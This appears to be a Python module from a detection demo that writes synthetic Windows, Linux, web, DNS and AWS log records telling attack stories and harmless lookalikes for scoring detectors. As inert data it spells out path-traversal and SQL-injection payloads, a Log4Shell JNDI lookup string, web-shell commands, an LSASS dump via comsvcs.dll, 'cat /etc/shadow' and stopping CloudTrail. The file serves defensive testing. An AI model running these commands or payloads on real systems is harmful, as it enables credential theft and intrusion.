"""The stories told by the demo's logs: attacks step by step, and harmless things that look like attacks.

Each scene adds native records to the logs and marks them with the number of its step, so that the labels name them.
Attack strings are inert text: addresses and names are those set aside for documentation.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any

from agent.demo import records as native
from agent.demo.records import HOUR, MINUTE, SECOND, Logs
from agent.demo.score import Expectation, Step, Story

WINDOWS = "windows/sysmon-security.jsonl"
AUTH = "linux/auth.log"
WEB = "web/access.log"
DNS = "dns/dns.jsonl"

_SYSTEM32 = "C:\\Windows\\System32\\"
_POWERSHELL = f"{_SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
_LSASS = f"{_SYSTEM32}lsass.exe"
_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_INERT = base64.b64encode("Write-Host 'inert text of the Vedette demo'".encode("utf-16-le")).decode()


@dataclass(frozen=True)
class Draft:
    """A step before it is known where its records lie; its number in the list is their mark."""

    story: Story
    step: Step


class _Teller:
    """Begins steps for scenes and knows the clock of the day."""

    def __init__(self, logs: Logs, rng: random.Random, start: int) -> None:
        self.logs = logs
        self.rng = rng
        self.drafts: list[Draft] = []
        self._start = start

    def at(self, clock: str) -> int:
        """The moment of ``HH:MM`` on the day."""
        hours, minutes = clock.split(":")
        return self._start + int(hours) * HOUR + int(minutes) * MINUTE

    def step(
        self, story: Story, id: str, what: str, technique: str, expected: Expectation, **entities: str | tuple[str, ...]
    ) -> _Scene:
        """Begin a step about *entities* (``user_name`` is the field ``user.name``)."""
        named = {
            name.replace("_", "."): (value,) if isinstance(value, str) else value for name, value in entities.items()
        }
        self.drafts.append(Draft(story, Step(f"{story.id}/{id}", what, technique, expected, named)))
        return _Scene(self, len(self.drafts) - 1)


class _Scene:
    """Adds native records to one step. *at* is a clock time, or a moment."""

    def __init__(self, teller: _Teller, mark: int) -> None:
        self._teller = teller
        self._mark = mark

    def _time(self, at: str | int) -> int:
        return self._teller.at(at) if isinstance(at, str) else at

    def add(self, path: str, at: str | int, raw: bytes) -> None:
        self._teller.logs.add(path, self._time(at), raw, self._mark)

    def linux(self, at: str | int, host: str, program: str, text: str, pid: int | None = None) -> None:
        self.add(AUTH, at, native.syslog(self._time(at), host, program, text, pid))

    def web(self, at: str, gap: int, address: str, lines: Iterable[tuple[str, int]], agent: str = _BROWSER) -> None:
        """Requests with their status, *gap* seconds apart."""
        for number, (request, status) in enumerate(lines):
            time = self._time(at) + number * gap * SECOND
            self.add(WEB, time, native.access(time, address, f"{request} HTTP/1.1", status, 300 + number, agent))

    def run(self, at: str | int, host: str, user: str, image: str, command: str, parent: str) -> None:
        time = self._time(at)
        pid = 5000 + time // SECOND % 4999
        self.add(WINDOWS, time, native.process(time, host, user, image, command, parent, pid=pid))

    def windows(self, at: str | int, event: int, host: str, channel: str = "Security", **fields: Any) -> None:
        self.add(WINDOWS, at, native.windows(self._time(at), event, host, channel, **fields))

    def administrator(self, at: str | int, host: str, member: str, by: str) -> None:
        """Security 4732: *member* joins the local administrators."""
        self.windows(
            at, 4732, host, MemberName="-", MemberSid=native.sid(member), TargetUserName="Administrators",
            TargetDomainName="Builtin", TargetSid="S-1-5-32-544", **_subject(by),
        )  # fmt: skip

    def aws(self, at: str | int, user: str, address: str, action: str, request: dict[str, Any] | None = None) -> None:
        time = self._time(at)
        agent = "Boto3/1.35.60 md/Botocore#1.35.60"
        raw = native.cloudtrail(time, user, address, action, request, userAgent=agent)
        self.add(native.delivery_path(time), time, raw)

    def dns(self, at: str | int, client: str, name: str, kind: str = "A") -> None:
        self.add(DNS, at, native.dns(self._time(at), client, name, kind))


def tell(logs: Logs, rng: random.Random, start: int) -> list[Draft]:
    """Add all stories of the day that begins at *start*; return their steps."""
    teller = _Teller(logs, rng, start)
    for scene in _SCENES:
        scene(teller)
    return teller.drafts


def _subject(user: str) -> dict[str, str]:
    return {"SubjectUserSid": native.sid(user), "SubjectUserName": user, "SubjectDomainName": native.DOMAIN}


# --- attacks ----------------------------------------------------------------------------------------------------------

_BACKUP = Story("backup-account", "A stolen backup account walks through the network at night", False, ())
_SPRAYING = Story("ssh-spraying", "Password spraying over SSH, then a way in", False, ())
_WEB_SHELL = Story("web-shell", "A web server is scanned and broken into", False, ())
_PHISHING = Story("phishing", "From a mail to stolen passwords, another server, and cleared logs", False, ())
_CLOUD_KEY = Story("cloud-key", "A stolen access key: look around, switch off the trail, take the data", False, ())
_TUNNEL = Story("dns-tunnel", "Data leaves through names", False, ())
_BEACON = Story("beacon", "A quiet beacon that we expect to miss", False, ())


def _stolen_backup_account(t: _Teller) -> None:
    """Valid credentials, ordinary logons: only their number at this hour gives them away."""
    what = "180 network logons of svc-backup at an hour when it is idle"
    step = t.step(_BACKUP, "walk", what, "T1078.002", "baseline", user_name="svc-backup")
    for number in range(180):
        time = t.at("03:12") + number * 9 * SECOND
        host = f"ws-{number % 24 + 1:02}"
        step.add(WINDOWS, time, native.logon(time, host, "svc-backup", 3, "10.20.0.50", serial=90000 + number))


_JUMP, _SPRAYER = "srv-jump-01", "203.0.113.77"


def _guessing(t: _Teller) -> None:
    what = "320 guesses over 40 user names, slowly"
    step = t.step(_SPRAYING, "spraying", what, "T1110.003", "baseline", host_name=_JUMP, source_ip=_SPRAYER)
    names = ("amelie", "jonas", "noah", "deniz", "lena", "admin", "backup", "git", "oracle", "postgres")
    for number in range(320):
        whom = f"{names[number % 10]}{number // 80 or ''} from {_SPRAYER} port {40000 + number * 7} ssh2"
        time = t.at("05:40") + number * 19 * SECOND
        step.linux(time, _JUMP, "sshd", f"Failed password for invalid user {whom}", 4000 + number)
    step = t.step(_SPRAYING, "given-up", "the server ends some connections", "T1110.001", "rule", source_ip=_SPRAYER)
    for number in range(4):
        whom = f"invalid user git from {_SPRAYER} port {41000 + number} ssh2"
        time = t.at("05:55") + number * 21 * MINUTE
        step.linux(
            time, _JUMP, "sshd", f"error: maximum authentication attempts exceeded for {whom} [preauth]", 4500 + number
        )


def _way_in(t: _Teller) -> None:
    what = "a password fits; the address is new for this user"
    step = t.step(_SPRAYING, "login", what, "T1078.003", "baseline", user_name="noah", source_ip=_SPRAYER)
    step.linux("07:24", _JUMP, "sshd", f"Accepted password for noah from {_SPRAYER} port 44100 ssh2", 5100)
    what = "the user may not use sudo, and tries"
    step = t.step(_SPRAYING, "sudo", what, "T1548.003", "rule", host_name=_JUMP, user_name="noah")
    refused = "noah : user NOT in sudoers ; TTY=pts/3 ; PWD=/home/noah ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow"
    step.linux("07:26", _JUMP, "sudo", f"    {refused}")
    what = "a new account becomes an administrator"
    step = t.step(_SPRAYING, "new-admin", what, "T1098.007", "rule", host_name=_JUMP)
    created = "new user: name=sysupd, UID=1017, GID=1017, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/3"
    step.linux("07:41", _JUMP, "useradd", created, 5301)
    step.linux("07:42", _JUMP, "usermod", "add 'sysupd' to group 'sudo'", 5302)


_INTRUDER = "198.51.100.23"
# fmt: off
_WORDS = (
    "admin", "backup.zip", "phpinfo.php", "server-status", "old", "test", ".env", "wp-login.php", "api/v2", "cgi-bin",
)
_TRAVERSALS = (
    "/static/../../../../etc/passwd", "/download?file=..%2f..%2f..%2fetc%2fshadow", "/img/..;/..;/WEB-INF/web.xml",
)
# fmt: on
_INJECTIONS = ("88%27%20OR%20%271%27=%271", "88%20UNION%20ALL%20SELECT%201,2,3", "88%20AND%20SLEEP(5)")


def _web_probing(t: _Teller) -> None:
    def step(id: str, what: str, technique: str = "T1190") -> _Scene:
        return t.step(_WEB_SHELL, id, what, technique, "rule", source_ip=_INTRUDER)

    scanner = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)"
    paths = [f"{word}{number or ''}" for number in range(4) for word in _WORDS]
    scan = step("scan", "a scanner looks for known files", "T1595.002")
    scan.web("09:12", 4, _INTRUDER, ((f"GET /{path}", 404) for path in paths), scanner)
    traversal = step("traversal", "attempts to read files of the system")
    traversal.web("09:21", 7, _INTRUDER, ((f"GET {path}", 400) for path in _TRAVERSALS * 4))
    injection = step("injection", "attempts at the data base behind the shop")
    items = ((f"GET /shop/item?id={one}", 500) for one in _INJECTIONS * 5)
    injection.web("09:33", 11, _INTRUDER, items, "sqlmap/1.8.11#stable")
    lookup = step("log4shell", "a look-up string in the user agent")
    pages = (("GET /", 200), ("GET /login", 200))
    lookup.web("09:47", 5, _INTRUDER, pages, f"${{jndi:ldap://{_INTRUDER}:1389/x}}")


def _web_shell(t: _Teller) -> None:
    shell = "/uploads/2026/avatar_7731.php"
    step = t.step(_WEB_SHELL, "upload", "a script is uploaded and answers", "T1505.003", "rule", source_ip=_INTRUDER)
    step.web("10:05", 30, _INTRUDER, [(f"POST {shell}", 200)] * 2)
    step = t.step(_WEB_SHELL, "commands", "commands through the web shell", "T1505.003", "rule", source_ip=_INTRUDER)
    commands = ("whoami", "id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www")
    step.web("10:08", 40, _INTRUDER, ((f"GET {shell}?cmd={one}", 200) for one in commands))
    what = "the web server's account takes a root shell"
    step = t.step(_WEB_SHELL, "root", what, "T1548.003", "rule", host_name="srv-web-01", user_name="www-data")
    sudo = "www-data : TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=/bin/bash -i"
    step.linux("10:16", "srv-web-01", "sudo", sudo)


_VICTIM, _HOST = "amelie.roth", "ws-01"


def _phished_workstation(t: _Teller) -> None:
    def step(id: str, what: str, technique: str) -> _Scene:
        return t.step(_PHISHING, id, what, technique, "rule", host_name=_HOST, user_name=_VICTIM)

    tool = "C:\\Users\\Public\\ofcupd.exe"
    document = step("document", "a document starts an encoded PowerShell command", "T1204.002")
    document.run("10:40", _HOST, _VICTIM, _POWERSHELL, f"powershell.exe -nop -w hidden -enc {_INERT}", _WORD)
    task = step("persistence", "a scheduled task starts a program from a public folder", "T1053.005")
    create = f"schtasks /create /sc hourly /tn OfficeUpdate /tr {tool} /f"
    task.run("10:52", _HOST, _VICTIM, f"{_SYSTEM32}schtasks.exe", create, _POWERSHELL)
    memory = step("lsass", "the program reads the memory of LSASS", "T1003.001")
    fields = {"SourceImage": tool, "TargetImage": _LSASS, "GrantedAccess": "0x1410"}
    raw = native.sysmon(t.at("11:03"), 10, _HOST, SourceUser=native.account(_VICTIM), **fields)
    memory.add(WINDOWS, "11:03", raw)
    dump = step("dump", "and writes it to a file with a library of Windows", "T1003.001")
    command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\o.bin full"
    dump.run("11:05", _HOST, _VICTIM, f"{_SYSTEM32}rundll32.exe", command, tool)


def _phished_server(t: _Teller) -> None:
    server = "srv-file-01"
    step = t.step(
        _PHISHING, "movement", "a service with a shell on the file server", "T1569.002", "rule", host_name=server
    )
    program = f"%COMSPEC% /C start /b powershell -noP -w 1 -enc {_INERT}"
    service = {"ServiceName": "OfcUpd", "ServiceType": "user mode service", "ImagePath": program}
    step.windows("11:20", 7045, server, "System", StartType="demand start", AccountName="LocalSystem", **service)
    what = "a hidden account is created and made administrator"
    step = t.step(_PHISHING, "account", what, "T1136.001", "rule", host_name=server)
    account = {"TargetUserName": "support$", "TargetDomainName": server.upper(), "TargetSid": native.sid("support$")}
    step.windows("11:31", 4720, server, **account, **_subject(_VICTIM))
    step.administrator("11:32", server, "support$", by=_VICTIM)
    step = t.step(_PHISHING, "clearing", "the Security log is emptied", "T1070.001", "rule", host_name=_HOST)
    step.windows("11:45", 1102, _HOST, SourceName="Microsoft-Windows-Eventlog", **_subject(_VICTIM))


def _cloud_theft(t: _Teller) -> None:
    user, thief = "deploy", "198.51.100.60"

    def step(id: str, what: str, technique: str, expected: Expectation = "rule") -> _Scene:
        return t.step(_CLOUD_KEY, id, what, technique, expected, user_name=user, source_ip=thief)

    look = step("discovery", "the key is used from a new address to look around", "T1087.004", "baseline")
    actions = ("sts:GetCallerIdentity", "iam:ListUsers", "iam:ListRoles", "s3:ListBuckets", "ec2:DescribeInstances")
    for number, action in enumerate(actions * 3):
        look.aws(t.at("13:20") + number * 23 * SECOND, user, thief, action)
    key = step("key", "a second key, for another user", "T1098.001")
    key.aws("13:31", user, thief, "iam:CreateAccessKey", {"userName": "backup"})
    trail = step("trail", "the audit trail is stopped", "T1562.008")
    trail.aws("13:33", user, thief, "cloudtrail:StopLogging", {"name": "org-trail"})
    objects = step("objects", "400 objects are read from the customers' bucket", "T1530", "baseline")
    for number in range(400):
        name = {"bucketName": "example-customers", "key": f"export/part-{number:04}.csv.gz"}
        objects.aws(t.at("13:36") + number * 3 * SECOND, user, thief, "s3:GetObject", name)
    disk = step("snapshot", "a disk is shared with a foreign account", "T1537")
    shared = {"add": {"items": [{"userId": "444455556666"}]}}
    request = {"snapshotId": "snap-0a1b2c3d4e5f60718", "createVolumePermission": shared}
    disk.aws("14:01", user, thief, "ec2:ModifySnapshotAttribute", request)


def _dns_tunnel(t: _Teller) -> None:
    client = "10.20.1.39"
    step = t.step(_TUNNEL, "tunnel", "90 queries whose names carry data", "T1071.004", "rule", source_ip=client)
    for number in range(90):
        name = f"{t.rng.getrandbits(224):056x}.{number:03}.t.sync.example.net"
        step.dns(t.at("14:30") + number * 61 * SECOND, client, name, "TXT")


def _beacon(t: _Teller) -> None:
    """One short, ordinary name every ten minutes or so: no rule can tell, and no baseline looks at it yet."""
    client, what = "10.20.1.31", "one look-up every ten minutes, with jitter, all day"
    step = t.step(_BEACON, "beacon", what, "T1071.004", "missed", source_ip=client)
    time = t.at("00:04")
    while time < t.at("23:50"):
        step.dns(time, client, "telemetry.weather-widget.example.org")
        time += int(t.rng.uniform(540, 660) * SECOND)


# --- harmless neighbours ----------------------------------------------------------------------------------------------

_SCANNER = Story("own-scanner", "Our own vulnerability scanner in its change window", True, ())
_MANAGEMENT = Story("management", "The management agent runs an encoded inventory script", True, ())
_TICKET = Story("administration", "An administrator does the work of a ticket", True, ())
_TRAVELLER = Story("traveller", "A developer works from a train: a new address, and harmless", True, ())
_FAULTS = Story("faults", "Records with faults, as real files hold them", True, ())


def _own_scanner(t: _Teller) -> None:
    address = "10.20.0.66"
    step = t.step(_SCANNER, "scan", "80 requests, a few of them like attacks", "", "loud", source_ip=address)
    odd = ("/.env", "/static/../../../../etc/passwd", "/item?id=1%27%20OR%20%271%27=%271")
    paths = (odd[number // 16 % 3] if number % 16 == 0 else f"/check/{number}" for number in range(80))
    agent = "ExampleScanner/3.2 (change CHG-1042; security@example.com)"
    step.web("20:00", 25, address, ((f"GET {path}", 404) for path in paths), agent)


def _management_tool(t: _Teller) -> None:
    hosts = tuple(f"ws-{number:02}" for number in range(1, 25))
    step = t.step(_MANAGEMENT, "inventory", "encoded PowerShell on every workstation", "", "quiet", host_name=hosts)
    command, parent = f"powershell.exe -NoProfile -EncodedCommand {_INERT}", "C:\\Windows\\CCM\\CcmExec.exe"
    for number, host in enumerate(hosts):
        step.run(t.at("12:10") + number * 7 * SECOND, host, "SYSTEM", _POWERSHELL, command, parent)


def _administrator_at_work(t: _Teller) -> None:
    host, user, shell = "srv-app-01", "deniz.kaya", f"{_SYSTEM32}cmd.exe"
    step = t.step(_TICKET, "member", "a colleague becomes a local administrator", "", "loud", host_name=host)
    step.administrator("08:40", host, "jonas.brandt", by=user)
    step = t.step(_TICKET, "export", "a log is exported, shadow copies are listed", "", "quiet", host_name=host)
    step.run("08:50", host, user, f"{_SYSTEM32}wevtutil.exe", "wevtutil epl Security D:\\Export\\s.evtx", shell)
    step.run("08:51", host, user, f"{_SYSTEM32}vssadmin.exe", "vssadmin list shadows", shell)


def _traveller(t: _Teller) -> None:
    address, what = "203.0.113.140", "SSH with the usual key from a new address"
    step = t.step(_TRAVELLER, "login", what, "", "loud", user_name="emil", source_ip=address)
    accepted = f"Accepted publickey for emil from {address} port 50444 ssh2: ED25519 SHA256:{6100:043d}"
    step.linux("17:35", "srv-git-01", "sshd", accepted, 6100)


def _faults(t: _Teller) -> None:
    noon, stamp = t.at("12:00"), native.iso(t.at("12:03"))
    cut_off = native.sysmon(noon, 1, "ws-03", Image="C:\\Windows\\notepad.exe")[:90]
    query = native.dns(t.at("12:03"), "10.20.1.33", "www.example.com")
    far_future = query.replace(stamp.encode(), b"9999" + stamp[4:].encode())
    rows: tuple[tuple[str, str, Expectation, str, list[bytes]], ...] = (
        ("cut-off", "JSON cut off", "loud", WINDOWS, [cut_off]),
        ("binary", "bytes that are no text", "loud", WINDOWS, [b"\xff\xfe\x00\x81{not json"]),
        ("syslog", "a line without a time", "loud", AUTH, [b"-- MARK -- kernel ring buffer was truncated \xc3\x28"]),
        ("access", "a TLS hello in the access log", "loud", WEB, [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03"]),
        ("future", "a clock in the year 9999", "quiet", DNS, [far_future]),
        ("repeat", "one line twice", "quiet", DNS, [query, query]),
    )
    for number, (id, what, expected, path, raws) in enumerate(rows):
        step = t.step(_FAULTS, id, what, "", expected)
        for raw in raws:
            step.add(path, noon + number * MINUTE, raw)


_SCENES: tuple[Callable[[_Teller], None], ...] = (
    _stolen_backup_account,
    _guessing,
    _way_in,
    _web_probing,
    _web_shell,
    _phished_workstation,
    _phished_server,
    _cloud_theft,
    _dns_tunnel,
    _beacon,
    _own_scanner,
    _management_tool,
    _administrator_at_work,
    _traveller,
    _faults,
)
